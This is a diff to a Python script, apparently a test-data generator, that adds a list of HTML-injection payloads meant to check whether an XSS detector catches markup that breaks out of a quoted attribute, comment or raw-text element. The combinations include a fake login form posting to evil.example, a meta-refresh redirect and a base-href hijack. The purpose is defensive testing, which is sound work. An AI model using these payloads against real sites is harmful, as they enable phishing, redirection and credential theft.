@@ -41,6 +41,12 @@ included):
       reads as '<'. The detectors matched ASCII '<' only. x payload x
       which characters are spelt so ('<', '<' and '>', all markup) x
       spelling.
+  tests/data/gen-evade-break.txt  a value that opens by leaving its context
+      (a quoted attribute and its tag, a comment, a raw-text element:
+      '">', "'>", '-->', '</textarea>', '</title>') and then opens an
+      element, even one without script (<h1>, <form action=...>, <base>):
+      the XSS detector judged only elements that run script. x break x
+      element x blank between.
 Deterministic. Usage: tools/gen-evade.py [DIR]."""
 import os
 import sys
@@ -160,6 +166,24 @@ def fold():
     return out
 
 
+# --- markup injected after leaving the value's context -------------------------
+BREAKS = ['">', "'>", '"/>', "' />", '`>', '-->', '</textarea>', '</title>', '</script>',
+          '</style>', '</noscript>', '</TEXTAREA>', '" >', '"">']
+ELEMENTS = ['<h1>hacked</h1>', '<b>x</b>', '<img src=x>', '<form action=//evil.example/l><input name=p>',
+            '<a href=//evil.example>log in</a>', '<marquee>x', '<div style="position:fixed;top:0">',
+            '<input autofocus>', '<meta http-equiv=refresh content="0;url=//evil.example">',
+            '<base href=//evil.example/>', '<table background=x>', '<p>x']
+
+
+def breaks():
+    out = []
+    for b in BREAKS:
+        for e in ELEMENTS:
+            out.append(b + e)
+            out.append(b + ' ' + e)
+    return out
+
+
 def write(d, name, rows):
     seen = set()
     with open(os.path.join(d, name), 'w') as f:
@@ -175,6 +199,7 @@ def main():
     write(d, 'gen-evade-cmdi.txt', cmdi())
     write(d, 'gen-evade-sqli.txt', sqli())
     write(d, 'gen-evade-fold.txt', fold())
+    write(d, 'gen-evade-break.txt', breaks())
 
 
 if __name__ == '__main__':
